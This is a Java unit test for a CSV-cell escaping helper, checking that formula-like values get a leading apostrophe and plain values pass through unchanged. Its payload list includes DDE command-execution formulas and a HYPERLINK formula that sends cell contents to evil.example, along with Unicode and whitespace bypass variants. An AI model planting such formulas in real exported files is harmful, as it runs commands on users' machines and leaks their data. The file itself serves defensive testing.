package dev.parley.engine.admin;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** With what OWASP lists under CSV injection, and its known ways around. */
final class CsvCellsTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!D2",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\ttext",
        "\rtext",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        " =1+1",
        "\u00A0=1+1",
        "\u3000=1+1",
        "\uFEFF=1+1",
        "\u200B=1+1",
        "\u0000=1+1",
        "+4915112345678",
        "=",
        "-"
      })
  void whatCouldBeAFormulaStandsBehindAnApostrophe(String value) {
    assertThat(CsvCells.text(value)).isEqualTo("'" + value);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", " ", "Maya", "maya@example.com", "a=b", "1-2", "a\tb", "Größe", "'=1", "😀"})
  void whatIsNoneStaysAsItIs(String value) {
    assertThat(CsvCells.text(value)).isEqualTo(value);
  }
}
